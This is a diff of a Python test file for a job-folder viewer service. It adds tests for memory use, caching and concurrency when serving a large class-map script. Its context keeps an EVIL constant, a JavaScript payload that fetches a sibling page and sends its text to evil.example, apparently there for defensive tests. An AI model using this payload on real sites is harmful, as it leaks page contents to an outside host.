@@ -2,11 +2,15 @@
 
 from __future__ import annotations
 
+import asyncio
 import json
+import threading
+import tracemalloc
 from pathlib import Path
 
+import anyio
 import pytest
-from asgi_requests import HOST
+from asgi_requests import HOST, asked
 from picture_folders import CLASSES, job_folder
 from starlette.testclient import TestClient
 
@@ -14,7 +18,8 @@ from cluster.viewing import find_jobs, viewer_of
 from storage.formats import page as pages
 from storage.formats.page import SOURCE, Page, write_page
 from storage.pyramid import PyramidLayout
-from storage.viewer.own_page import SCRIPTS, page_of, rewritten
+from storage.viewer import own_page
+from storage.viewer.own_page import LARGEST_SCRIPT, SCRIPTS, page_of, rewritten
 
 EVIL = "fetch('../../cards.html').then((told) => told.text()).then((text) => { location = '//evil.example/' + text; })"
 
@@ -89,6 +94,65 @@ def test_a_class_map_that_is_none_is_not_there(script: str) -> None:
     with pytest.raises(HTTPException) as refused:
         rewritten(script, "classes.js")
     assert refused.value.status_code == 404
+
+
+def test_a_large_class_map_is_read_once_one_at_a_time_and_in_little_memory(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    folder = job_folder(tmp_path / "job", classes=True)
+    path, size = folder / "viewer" / "classes.js", 4 * 2**20
+    begins = SCRIPTS["classes.js"][0]
+    path.write_text(f'{begins}{{"width": 9, "height": 9, "png": "data:image/png;base64,{"A" * size}"}};\n')
+    tracemalloc.start()
+    try:
+        content = rewritten(path.read_text(), "classes.js")
+        assert tracemalloc.get_traced_memory()[1] < 4.5 * size
+    finally:
+        tracemalloc.stop()
+    asked: list[str] = []
+    monkeypatch.setattr(own_page, "rewritten", lambda script, name: asked.append(name) or content)
+    client = client_of(folder)
+    first = client.get("/viewer/classes.js")
+    assert first.content == content == client.get("/viewer/classes.js").content
+    assert (
+        client.get("/viewer/classes.js", headers={"If-None-Match": first.headers["etag"]}).status_code == 304
+    )
+    assert asked == ["classes.js"]
+    path.write_text(path.read_text() + "\n")
+    assert client.get("/viewer/classes.js").status_code == 200
+    assert len(asked) == 2
+    with path.open("wb") as file:
+        file.truncate(LARGEST_SCRIPT + 1)
+    assert client.get("/viewer/classes.js").status_code == 404
+
+
+def test_scripts_of_folders_wait_for_each_other(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    folder, go_on, inside = job_folder(tmp_path / "job", classes=True), threading.Event(), list[int]()
+
+    def slow(script: str, name: str) -> bytes:
+        inside.append(len(inside))
+        assert go_on.wait(10)
+        return b"read"
+
+    monkeypatch.setattr(own_page, "rewritten", slow)
+    app, statuses = viewer_of(folder), list[int]()
+
+    async def come() -> None:
+        statuses.append((await asked(app, "/viewer/classes.js")).status)
+
+    async def crowd() -> int:
+        async with anyio.create_task_group() as group:
+            for _ in range(24):
+                group.start_soon(come)
+            with anyio.fail_after(10):
+                while len(statuses) < 7:
+                    await anyio.sleep(0.01)
+            busy = len(inside)
+            go_on.set()
+        return busy
+
+    assert asyncio.run(crowd()) == 1
+    assert sorted(statuses) == [200] * 17 + [503] * 7 and len(inside) == 1
 
 
 @pytest.mark.parametrize(
